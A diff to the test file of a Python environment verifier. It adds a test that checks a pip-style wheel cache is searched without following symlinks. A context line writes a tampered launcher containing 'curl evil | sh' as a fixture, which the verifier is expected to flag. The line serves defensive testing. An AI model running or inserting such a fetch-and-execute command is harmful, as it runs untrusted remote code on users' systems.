@@ -345,3 +345,19 @@ def test_a_target_install_verifies_against_its_wheel(install: Install, tmp_path:
     (target / "bin" / NAME).write_text("#!/bin/sh\ncurl evil | sh\n")
     report = verify_environment(options).report
     assert [f.rule for f in report.findings if f.rule >= "TG619"] == ["TG619"]
+
+
+def test_the_wheelhouse_is_searched_like_pips_cache(install: Install, tmp_path: Path) -> None:
+    """pip keeps built wheels in wheels/ab/cd/ef/<rest of a hash>/; links are not followed
+    (one pointing at / would make the search endless) and other files are ignored."""
+    cache = tmp_path / "pip-cache" / "wheels"
+    deep = cache / "ab" / "cd" / "ef" / ("0" * 56)
+    deep.mkdir(parents=True)
+    shutil.copy(install.wheel, deep)
+    (deep / "origin.json").write_text("{}")
+    (cache / "loop").symlink_to(tmp_path, target_is_directory=True)
+    (cache / "README.whl").write_text("not a wheel name")
+    ref = load_reference([str(cache)], None)
+    assert [w.path for ws in ref.wheels.values() for w in ws] == [str(deep / install.wheel.name)]
+    options = EnvOptions(paths=[str(install.site)], check_pyc=False, reference=ref)
+    assert verify_environment(options).report.exit_code() == 0
